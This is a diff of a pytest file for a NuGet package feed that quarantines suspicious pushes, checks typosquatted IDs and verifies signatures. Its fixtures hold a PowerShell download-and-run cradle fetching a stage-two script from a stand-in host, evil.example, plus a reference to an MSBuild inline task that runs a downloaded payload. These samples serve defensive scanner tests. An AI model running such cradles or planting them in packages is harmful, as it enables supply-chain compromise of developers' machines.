@@ -5,17 +5,12 @@ and upstream packages (the real nuget.org vectors) through ``Ingestion.ingest``.
 
 from __future__ import annotations
 
-import functools
 import json
 import re
 from collections.abc import Iterator
-from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
-from typing import Any
 
-import anyio.from_thread
-import httpx
 import pytest
 from click.testing import CliRunner
 from cryptography.hazmat.primitives import hashes
@@ -23,11 +18,7 @@ from cryptography.hazmat.primitives import hashes
 from nuseal.cli.admin import admin_group
 from nuseal.client.gate import RepositorySignatureInfo
 from nuseal.devpki import DevPki
-from nuseal.feed.accounts.admins import set_admin
-from nuseal.feed.accounts.keys import Scope, create_api_key, create_user
-from nuseal.feed.compose import Feed as ComposedFeed
-from nuseal.feed.compose import build_feed
-from nuseal.feed.config import FeedConfig, IngestConfig, SigningConfig
+from nuseal.feed.accounts.keys import Scope, create_api_key
 from nuseal.feed.mirror.checks import UpstreamInfo
 from nuseal.feed.store import audit
 from nuseal.hashalg import HashAlgorithm
@@ -36,15 +27,12 @@ from nuseal.signature import PrimarySignature
 from nuseal.signature.attributes import SignatureType
 from nuseal.signature.builder import create_primary_signature
 from nuseal.signing.signer import FileSigner
-from nuseal.verify import AllowListEntry, SignaturePlacement, VerificationTarget
-from support.clock import VECTOR_NOW, Clock
+from support.clock import VECTOR_NOW
 
-from .conftest import PgCluster, make_package, multipart, start_feed
-from .upstream_support import nuget_org_repository_certificates, sha256_fingerprint, tampered, vector_files
+from .conftest import PgCluster, make_package, start_feed
+from .ingest_support import IngestFeed, ingest_feed, nuget_org_info, sign_in
+from .upstream_support import tampered, vector_files
 
-SHARED = Path(__file__).resolve().parents[3] / "shared"
-CODESIGN = str(SHARED / "trust" / "codesignctl.pem")
-TIMESTAMP = str(SHARED / "trust" / "timestampctl.pem")
 #: A download-and-run cradle in an install script (scan rule NS1110, an error).
 CRADLE = b"iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')\n"
 #: An MSBuild inline task hooked before Build that downloads a payload and runs it from memory (NS2110, an error).
@@ -64,117 +52,18 @@ INLINE_TASK = b"""<Project xmlns="http://schemas.microsoft.com/developer/msbuild
 """
 
 
-class Client:
-    """A synchronous client of an ASGI app in this process (httpx over ``ASGITransport``, on an anyio portal)."""
-
-    def __init__(self, app: Any) -> None:
-        self._portal_cm = anyio.from_thread.start_blocking_portal()
-        self.portal = self._portal_cm.__enter__()
-        self.client = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver")
-
-    @property
-    def cookies(self) -> httpx.Cookies:
-        return self.client.cookies
-
-    def request(self, method: str, url: str, **kwargs: Any) -> httpx.Response:
-        return self.portal.call(functools.partial(self.client.request, method, url, **kwargs))
-
-    def get(self, url: str, **kwargs: Any) -> httpx.Response:
-        return self.request("GET", url, **kwargs)
-
-    def put(self, url: str, **kwargs: Any) -> httpx.Response:
-        return self.request("PUT", url, **kwargs)
-
-    def post(self, url: str, **kwargs: Any) -> httpx.Response:
-        return self.request("POST", url, **kwargs)
-
-    def close(self) -> None:
-        self.portal.call(self.client.aclose)
-        self._portal_cm.__exit__(None, None, None)
-
-
-@dataclass
-class InProcessFeed:
-    composed: ComposedFeed
-    client: Client
-    clock: Clock
-    keys: dict[str, str] = field(default_factory=dict)
-
-    @property
-    def data_dir(self) -> Path:
-        return self.composed.config.data_dir
-
-    def push(self, data: bytes, key: str = "alice") -> Any:
-        return self.client.put("/api/v2/package", files=multipart(data), headers={"X-NuGet-ApiKey": self.keys[key]})
-
-    def versions(self, package_id: str) -> list[str]:
-        r = self.client.get(f"/v3/flatcontainer/{package_id.lower()}/index.json")
-        return list(r.json()["versions"]) if r.status_code == 200 else []
-
-    def nupkg(self, package_id: str, version: str, key: str | None = None) -> Any:
-        i, v = package_id.lower(), version.lower()
-        headers = {"X-NuGet-ApiKey": self.keys[key]} if key else {}
-        return self.client.get(f"/v3/flatcontainer/{i}/{v}/{i}.{v}.nupkg", headers=headers)
-
-    def search_ids(self, q: str) -> list[str]:
-        return [d["id"] for d in self.client.get("/v3/search", params={"q": q}).json()["data"]]
-
-    def registration_versions(self, package_id: str) -> list[str]:
-        r = self.client.get(f"/v3/registration/{package_id.lower()}/index.json")
-        if r.status_code != 200:
-            return []
-        return [leaf["catalogEntry"]["version"] for page in r.json()["items"] for leaf in page.get("items", [])]
-
-    def admin(self, *args: str) -> Any:
-        database = self.composed.config.database_url
-        extra = ["--data", str(self.data_dir)] + (["--database", database] if database else [])
-        return CliRunner().invoke(admin_group, [*args, *extra], catch_exceptions=False)
-
-    @property
-    def ingestion(self) -> Any:
-        assert self.composed.ingestion is not None
-        return self.composed.ingestion
-
-
-def _feed(
-    tmp_path: Path, *, now: datetime | None = None, database_url: str | None = None, **ingest: Any
-) -> Iterator[InProcessFeed]:
-    clock = Clock(now or datetime.now(UTC))
-    config = FeedConfig(
-        data_dir=tmp_path / "feed",
-        base_url="http://testserver",
-        database_url=database_url,
-        signing=SigningConfig(trust_bundle=CODESIGN, timestamp_trust_bundle=TIMESTAMP),  # roots; signing stays off
-        ingest=IngestConfig(revocation_mode="offline", release_check_seconds=0, **ingest),
-    )
-    composed = build_feed(config, clock=clock)
-    composed.service.setup()
-    keys = {}
-    with composed.service.db.write() as session:
-        for name in ("alice", "bob", "root"):
-            create_user(session, name, now=clock())
-            keys[name] = create_api_key(session, name, now=clock()).key
-        set_admin(session, "root", admin=True, actor="test", now=clock())
-    client = Client(composed.app())
-    try:
-        yield InProcessFeed(composed, client, clock, keys)
-    finally:
-        client.close()
-        composed.close()
+@pytest.fixture
+def feed(tmp_path: Path) -> Iterator[IngestFeed]:
+    yield from ingest_feed(tmp_path)
 
 
 @pytest.fixture
-def feed(tmp_path: Path) -> Iterator[InProcessFeed]:
-    yield from _feed(tmp_path)
-
-
-@pytest.fixture
-def continuity_feed(tmp_path: Path) -> Iterator[InProcessFeed]:
+def continuity_feed(tmp_path: Path) -> Iterator[IngestFeed]:
     """A feed that also checks signer continuity on pushes (``--push-signer-continuity``)."""
-    yield from _feed(tmp_path, push_signer_continuity=True)
+    yield from ingest_feed(tmp_path, push_signer_continuity=True)
 
 
-def assert_invisible(feed: InProcessFeed, package_id: str, version: str) -> None:
+def assert_invisible(feed: IngestFeed, package_id: str, version: str) -> None:
     assert version not in feed.versions(package_id)
     assert version not in feed.registration_versions(package_id)
     assert feed.nupkg(package_id, version).status_code == 404
@@ -185,7 +74,7 @@ def assert_invisible(feed: InProcessFeed, package_id: str, version: str) -> None
 
 
 # ------------------------------------------------------------------------------------------------ pushes held
-def test_push_with_download_and_run_init_script_is_held_then_released(feed: InProcessFeed) -> None:
+def test_push_with_download_and_run_init_script_is_held_then_released(feed: IngestFeed) -> None:
     data = make_package("Contoso.Tools", "1.0.0", files={"tools/init.ps1": CRADLE})
     r = feed.push(data)
     assert r.status_code == 201
@@ -224,7 +113,7 @@ def test_push_with_download_and_run_init_script_is_held_then_released(feed: InPr
     assert feed.admin("quarantine", "list").output.strip() == "nothing in quarantine"
 
 
-def test_msbuild_inline_task_is_held_and_rejected(feed: InProcessFeed) -> None:
+def test_msbuild_inline_task_is_held_and_rejected(feed: IngestFeed) -> None:
     data = make_package("Contoso.Build", "2.0.0", files={"build/Contoso.Build.targets": INLINE_TASK})
     r = feed.push(data)
     assert r.status_code == 201 and "NS2110" in r.text
@@ -237,7 +126,7 @@ def test_msbuild_inline_task_is_held_and_rejected(feed: InProcessFeed) -> None:
     assert [(h["id"], h["state"], h["decided_by"]) for h in states] == [("Contoso.Build", "rejected", "root")]
 
 
-def test_clean_push_records_its_checks_on_the_page(feed: InProcessFeed) -> None:
+def test_clean_push_records_its_checks_on_the_page(feed: IngestFeed) -> None:
     assert feed.push(make_package("Contoso.Clean", "1.0.0")).status_code == 201
     page = feed.client.get("/packages/Contoso.Clean/1.0.0").text
     for stage in ("identity", "scan", "known-bad"):
@@ -246,7 +135,7 @@ def test_clean_push_records_its_checks_on_the_page(feed: InProcessFeed) -> None:
 
 
 def test_pushes_keep_nuget_orgs_unsigned_after_signed_rule_without_push_continuity(
-    feed: InProcessFeed, dev_pki: DevPki
+    feed: IngestFeed, dev_pki: DevPki
 ) -> None:
     """Without ``--push-signer-continuity`` a push is not held for its signer (issue 5's rules decide pushes)."""
     assert feed.push(author_signed(make_package("Plain.Signed", "1.0.0"), dev_pki, "author")).status_code == 201
@@ -256,7 +145,7 @@ def test_pushes_keep_nuget_orgs_unsigned_after_signed_rule_without_push_continui
 
 
 def test_upstream_signer_change_and_lost_signature_are_held(tmp_path: Path, dev_pki: DevPki) -> None:
-    for f in _feed(tmp_path):
+    for f in ingest_feed(tmp_path):
         info = UpstreamInfo("https://upstream.example/v3/index.json")
         paths = {}
         for version, signer in (("1.0.0", "author"), ("1.1.0", "author"), ("2.0.0", "repository"), ("3.0.0", None)):
@@ -277,7 +166,7 @@ def test_upstream_signer_change_and_lost_signature_are_held(tmp_path: Path, dev_
 
 
 def test_block_rule_refuses_the_push(tmp_path: Path) -> None:
-    for f in _feed(tmp_path, block_rules=("NS11*",)):
+    for f in ingest_feed(tmp_path, block_rules=("NS11*",)):
         r = f.push(make_package("Contoso.Blocked", "1.0.0", files={"tools/init.ps1": CRADLE}))
         assert r.status_code == 400
         assert "NS1110" in r.text and "blocked" in r.text
@@ -285,14 +174,14 @@ def test_block_rule_refuses_the_push(tmp_path: Path) -> None:
 
 
 # ------------------------------------------------------------------------------------------------ id protection
-def test_lookalike_of_a_popular_id_is_refused_naming_it(feed: InProcessFeed) -> None:
+def test_lookalike_of_a_popular_id_is_refused_naming_it(feed: IngestFeed) -> None:
     r = feed.push(make_package("Newtonsoft.Jsonn", "1.0.0"))
     assert r.status_code == 400
     assert "Newtonsoft.Json " in r.text or "Newtonsoft.Json (" in r.text
     assert feed.versions("Newtonsoft.Jsonn") == []
 
 
-def test_lookalike_of_an_id_on_the_feed_is_refused_for_another_owner(feed: InProcessFeed) -> None:
+def test_lookalike_of_an_id_on_the_feed_is_refused_for_another_owner(feed: IngestFeed) -> None:
     assert feed.push(make_package("Fabrikam.Widgets", "1.0.0")).status_code == 201
     r = feed.push(make_package("Fabrikam.Widgetz", "1.0.0"), key="bob")
     assert r.status_code == 400 and "Fabrikam.Widgets" in r.text
@@ -300,7 +189,7 @@ def test_lookalike_of_an_id_on_the_feed_is_refused_for_another_owner(feed: InPro
     assert feed.push(make_package("Fabrikam.Widgetz", "1.0.0")).status_code == 201
 
 
-def test_reserved_prefix_only_for_its_owner(feed: InProcessFeed) -> None:
+def test_reserved_prefix_only_for_its_owner(feed: IngestFeed) -> None:
     result = feed.admin("reserve-prefix", "Contoso.", "alice", "--as", "root")
     assert result.exit_code == 0, result.output
     r = feed.push(make_package("Contoso.Payments", "1.0.0"), key="bob")
@@ -333,7 +222,7 @@ def author_signed(data: bytes, pki: DevPki, name: str) -> bytes:
 
 
 def test_signer_change_is_held_with_both_identities_then_accepted(
-    continuity_feed: InProcessFeed, dev_pki: DevPki
+    continuity_feed: IngestFeed, dev_pki: DevPki
 ) -> None:
     feed = continuity_feed
     pid = "Contoso.Signed"
@@ -409,7 +298,7 @@ def _osv(folder: Path, package_id: str, version: str, *, malicious: bool) -> Pat
 
 def test_osv_malicious_version_is_refused_for_good(tmp_path: Path) -> None:
     osv = _osv(tmp_path / "osv", "Evil.Package", "1.0.0", malicious=True)
-    for f in _feed(tmp_path, osv_path=str(osv)):
+    for f in ingest_feed(tmp_path, osv_path=str(osv)):
         r = f.push(make_package("Evil.Package", "1.0.0"))
         assert r.status_code == 400 and "MAL-2026-0001" in r.text
         path = tmp_path / "evil.nupkg"
@@ -426,7 +315,7 @@ def test_osv_malicious_version_is_refused_for_good(tmp_path: Path) -> None:
 # ------------------------------------------------------------------------------------------------ cooldown
 def test_cooldown_hides_young_upstream_versions_until_they_are_old_enough(tmp_path: Path) -> None:
     start = datetime(2026, 12, 1, tzinfo=UTC)
-    for f in _feed(tmp_path, now=start, min_release_age_seconds=3 * 86400):
+    for f in ingest_feed(tmp_path, now=start, min_release_age_seconds=3 * 86400):
         published_old, published_new = start - timedelta(days=10), start - timedelta(days=1)
         listing = [("1.0.0", published_old), ("1.1.0", published_new)]
         assert f.ingestion.visible_versions("Upstream.Lib", listing) == ["1.0.0"]
@@ -454,7 +343,7 @@ def test_cooldown_hides_young_upstream_versions_until_they_are_old_enough(tmp_pa
 
 def test_cooldown_override_per_version(tmp_path: Path) -> None:
     start = datetime(2026, 12, 1, tzinfo=UTC)
-    for f in _feed(tmp_path, now=start, min_release_age_seconds=7 * 86400):
+    for f in ingest_feed(tmp_path, now=start, min_release_age_seconds=7 * 86400):
         young = start - timedelta(hours=1)
         path = tmp_path / "x.nupkg"
         path.write_bytes(make_package("Upstream.Fast", "2.0.0"))
@@ -466,21 +355,9 @@ def test_cooldown_override_per_version(tmp_path: Path) -> None:
 
 
 # ------------------------------------------------------------------------------------------------ upstream signatures
-def _nuget_org_info() -> RepositorySignatureInfo:
-    entries = tuple(
-        AllowListEntry(
-            fingerprint=sha256_fingerprint(c),
-            target=VerificationTarget.REPOSITORY,
-            placement=SignaturePlacement.ANY,
-        )
-        for c in nuget_org_repository_certificates()
-    )
-    return RepositorySignatureInfo(True, entries)
-
-
 def test_upstream_vectors_accepted_byte_for_byte_and_tampered_refused(tmp_path: Path) -> None:
-    for f in _feed(tmp_path, now=VECTOR_NOW):
-        info = UpstreamInfo("https://api.nuget.org/v3/index.json", _nuget_org_info(), published=VECTOR_NOW)
+    for f in ingest_feed(tmp_path, now=VECTOR_NOW):
+        info = UpstreamInfo("https://api.nuget.org/v3/index.json", nuget_org_info(), published=VECTOR_NOW)
         (key, path) = next((k, p) for k, p in sorted(vector_files().items()) if k[0] != "newtonsoft.json")
         outcome = f.ingestion.ingest(path, info)
         assert outcome.accepted, outcome.message
@@ -506,13 +383,13 @@ def test_upstream_vectors_accepted_byte_for_byte_and_tampered_refused(tmp_path: 
 def test_unlisted_repository_certificate_refused_even_when_upstream_says_not_all_signed(tmp_path: Path) -> None:
     """NuGet's client only warns (NU3034, accept mode) when allRepositorySigned is false; the mirror refuses a
     repository signature by a certificate the upstream does not list whatever the flag."""
-    listed = _nuget_org_info()
+    listed = nuget_org_info()
     info = UpstreamInfo(
         "https://api.nuget.org/v3/index.json",
         RepositorySignatureInfo(False, listed.certificates),
         published=VECTOR_NOW,
     )
-    for f in _feed(tmp_path, now=VECTOR_NOW):
+    for f in ingest_feed(tmp_path, now=VECTOR_NOW):
         newtonsoft = _vector("newtonsoft.json")
         outcome = f.ingestion.ingest(newtonsoft, info)
         assert outcome.refused, outcome.message
@@ -525,8 +402,8 @@ def test_unlisted_repository_certificate_refused_even_when_upstream_says_not_all
 def test_upstream_version_served_before_with_other_bytes_is_refused_not_accepted(tmp_path: Path) -> None:
     """A version this feed served before with other bytes (DATA/retired: a push a crash interrupted) is never
     replaced by an upstream's: ingestion refuses it instead of answering accepted for a version it cannot serve."""
-    for f in _feed(tmp_path, now=VECTOR_NOW):
-        info = UpstreamInfo("https://api.nuget.org/v3/index.json", _nuget_org_info(), published=VECTOR_NOW)
+    for f in ingest_feed(tmp_path, now=VECTOR_NOW):
+        info = UpstreamInfo("https://api.nuget.org/v3/index.json", nuget_org_info(), published=VECTOR_NOW)
         (key, path) = next((k, p) for k, p in sorted(vector_files().items()) if k[0] != "newtonsoft.json")
         retired = f.composed.service.retired_dir / key[0] / key[1]
         retired.parent.mkdir(parents=True, exist_ok=True)
@@ -550,8 +427,8 @@ def _author_sha256(path: Path) -> str:
 
 
 def test_author_policy_any_holds_a_package_without_an_author_signature(tmp_path: Path) -> None:
-    for f in _feed(tmp_path, now=VECTOR_NOW, author_policy="any"):
-        info = UpstreamInfo("https://api.nuget.org/v3/index.json", _nuget_org_info())
+    for f in ingest_feed(tmp_path, now=VECTOR_NOW, author_policy="any"):
+        info = UpstreamInfo("https://api.nuget.org/v3/index.json", nuget_org_info())
         assert f.ingestion.ingest(_vector("ilmerge"), info).accepted
         held = f.ingestion.ingest(_vector("nunittestadapter"), info)  # repository-signed only
         assert held.held and "needs an author signature" in held.message
@@ -560,8 +437,8 @@ def test_author_policy_any_holds_a_package_without_an_author_signature(tmp_path:
 
 def test_author_policy_allow_list(tmp_path: Path) -> None:
     microsoft = _author_sha256(_vector("system.security.principal.windows"))
-    for f in _feed(tmp_path, now=VECTOR_NOW, author_policy="allow-list", trusted_signers=(microsoft.upper(),)):
-        info = UpstreamInfo("https://api.nuget.org/v3/index.json", _nuget_org_info())
+    for f in ingest_feed(tmp_path, now=VECTOR_NOW, author_policy="allow-list", trusted_signers=(microsoft.upper(),)):
+        info = UpstreamInfo("https://api.nuget.org/v3/index.json", nuget_org_info())
         assert f.ingestion.ingest(_vector("system.memory"), info).accepted  # the same Microsoft certificate
         held = f.ingestion.ingest(_vector("dockpanelsuite"), info)
         assert held.held and "is not a trusted signer" in held.message
@@ -571,22 +448,12 @@ def test_author_policy_allow_list(tmp_path: Path) -> None:
 
 
 # ------------------------------------------------------------------------------------------------ web page
-def _sign_in(feed: InProcessFeed, key: str) -> None:
-    page = feed.client.get("/account/login")
-    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
-    assert csrf is not None
-    r = feed.client.post(
-        "/account/login", data={"api_key": feed.keys[key], "csrf": csrf.group(1)}, follow_redirects=False
-    )
-    assert r.status_code == 303, r.text
-
-
-def test_admin_page_shows_evidence_and_releases_with_csrf(feed: InProcessFeed) -> None:
+def test_admin_page_shows_evidence_and_releases_with_csrf(feed: IngestFeed) -> None:
     assert feed.push(make_package("Contoso.Page", "1.0.0", files={"tools/install.ps1": CRADLE})).status_code == 201
-    _sign_in(feed, "bob")
+    sign_in(feed, "bob")
     assert feed.client.get("/admin/quarantine").status_code == 403
     feed.client.cookies.clear()
-    _sign_in(feed, "root")
+    sign_in(feed, "root")
     page = feed.client.get("/admin/quarantine")
     assert page.status_code == 200
     assert "NS1110" in page.text and "DownloadString(&#39;http://evil.example/stage2.ps1&#39;)" in page.text
@@ -632,7 +499,7 @@ def test_real_server_holds_a_push_and_serves_it_after_a_cli_release(tmp_path: Pa
 
 @pytest.mark.postgres
 def test_hold_and_release_on_postgres(tmp_path: Path, pg_cluster: PgCluster) -> None:
-    for f in _feed(tmp_path, database_url=pg_cluster.new_database()):
+    for f in ingest_feed(tmp_path, database_url=pg_cluster.new_database()):
         data = make_package("Pg.Held", "1.0.0", files={"tools/init.ps1": CRADLE})
         assert f.push(data).status_code == 201
         assert f.push(data).status_code == 409
@@ -677,7 +544,7 @@ def test_signing_feed_holds_the_repository_signed_package_and_release_records_it
         pki_iter.close()
 
 
-def test_a_push_racing_a_hold_cannot_publish_the_held_version(feed: InProcessFeed) -> None:
+def test_a_push_racing_a_hold_cannot_publish_the_held_version(feed: IngestFeed) -> None:
     """The quarantine is checked again inside the publish transaction, under the id's lock: a push of the same
     version that passed ``check_not_held`` just before the hold committed is refused there (409)."""
     from nuseal.feed.accounts.keys import authenticate  # noqa: PLC0415
@@ -699,7 +566,7 @@ def test_a_push_racing_a_hold_cannot_publish_the_held_version(feed: InProcessFee
     assert_invisible(feed, "Race.Held", "1.0.0")
 
 
-def test_start_sweeps_quarantine_files_no_held_version_points_to(feed: InProcessFeed) -> None:
+def test_start_sweeps_quarantine_files_no_held_version_points_to(feed: IngestFeed) -> None:
     import os  # noqa: PLC0415
 
     assert feed.push(make_package("Sweep.Kept", "1.0.0", files={"tools/init.ps1": CRADLE})).status_code == 201
@@ -719,7 +586,7 @@ def test_start_sweeps_quarantine_files_no_held_version_points_to(feed: InProcess
     assert feed.admin("quarantine", "release", "Sweep.Kept", "1.0.0").exit_code == 0
 
 
-def test_a_release_that_fails_leaves_the_version_held(feed: InProcessFeed) -> None:
+def test_a_release_that_fails_leaves_the_version_held(feed: IngestFeed) -> None:
     """A held first push does not claim its id; if another user takes the id meanwhile, the release is refused by
     the publish step (403) and nothing changes: the version stays held with its bytes."""
     from nuseal.feed.errors import ForbiddenError  # noqa: PLC0415
@@ -736,7 +603,7 @@ def test_a_release_that_fails_leaves_the_version_held(feed: InProcessFeed) -> No
     assert list(feed.composed.config.staging_dir.iterdir()) == []
 
 
-def test_upstream_lookalike_of_a_popular_id_is_held_naming_it(feed: InProcessFeed, tmp_path: Path) -> None:
+def test_upstream_lookalike_of_a_popular_id_is_held_naming_it(feed: IngestFeed, tmp_path: Path) -> None:
     path = tmp_path / "squat.nupkg"
     path.write_bytes(make_package("Newtonsoft.Jsonn", "13.0.1"))
     outcome = feed.ingestion.ingest(path, UpstreamInfo("https://upstream.example/v3/index.json"))
